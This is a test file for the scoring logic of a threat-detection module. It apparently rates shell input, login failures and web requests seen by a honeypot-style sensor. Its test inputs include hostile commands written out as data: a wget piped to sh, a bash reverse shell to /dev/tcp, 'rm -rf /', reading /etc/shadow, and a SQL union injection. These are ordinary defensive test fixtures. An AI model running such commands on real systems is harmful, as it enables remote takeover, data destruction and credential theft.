import { deepEqual, equal, ok } from 'node:assert/strict'
import { test } from 'node:test'
import { assess } from '../../src/rules/assess.js'
import { ALERT_LEVEL } from '../../src/rules/rule.js'
import { matchedIds, request, typed, visit } from './twins.js'

test('an event that shows nothing is clean', () => {
  deepEqual(assess(visit({ kind: 'connection.close' })), {
    threatScore: 0,
    attackType: 'none',
    technique: '',
    rule: '',
    isFlagged: false,
  })
})

test('the rule with the highest score names the attack, of equals the first', () => {
  const { threatScore, rule, attackType, technique } = assess(typed('whoami; uname -a'))
  deepEqual(
    [threatScore, rule, attackType, technique],
    [20, 'shell-system-look', 'discovery', 'T1082'],
  )
  const tied = typed('whoami; ps aux')
  deepEqual(matchedIds(tied), ['shell-user-look', 'shell-process-look'])
  equal(assess(tied).rule, 'shell-user-look')
})

test('a suspicious rule of another attack type adds 5, one of the same type nothing', () => {
  const fetched = typed('wget http://198.51.100.9/a')
  deepEqual([assess(fetched).threatScore, matchedIds(fetched)], [65, ['shell-fetch']])
  const marked = typed('wget http://198.51.100.9/a; chmod 777 a')
  deepEqual(matchedIds(marked), ['shell-fetch-and-run', 'shell-fetch', 'shell-mode-777'])
  equal(assess(marked).threatScore, 95)
})

test('what is hardly suspicious adds nothing', () => {
  const looked = typed('wget http://198.51.100.9/a; uname -a')
  deepEqual(matchedIds(looked), ['shell-fetch', 'shell-system-look'])
  equal(assess(looked).threatScore, 65)
})

test('however many types join, the extra is at most 10 and the score at most 100', () => {
  const everything = typed(
    'wget http://198.51.100.9/a|sh; bash -i >& /dev/tcp/1.2.3.4/5 0>&1; rm -rf / ; chpasswd; cat /etc/shadow',
  )
  ok(matchedIds(everything).length > 5)
  equal(assess(everything).threatScore, 100)
})

test('an event is flagged from the alert level on', () => {
  const refused = (userName: string) =>
    assess(visit({ kind: 'auth.failure' }, { userName, authMethod: 'password' }))
  deepEqual([refused('root').threatScore, refused('root').isFlagged], [ALERT_LEVEL, true])
  deepEqual([refused('ann').threatScore, refused('ann').isFlagged], [25, false])
})

test('families of one event are joined: what is asked, and who asks', () => {
  const event = request('/x?id=1+union+select+1,2', { userAgent: 'sqlmap/1.7' })
  const { rule, threatScore } = assess(event)
  deepEqual([rule, threatScore], ['http-sql-union', 90])
})

test('nothing is remembered: the same event is judged the same again', () => {
  const event = typed('wget http://198.51.100.9/a | sh')
  deepEqual(assess(event), assess(event))
})
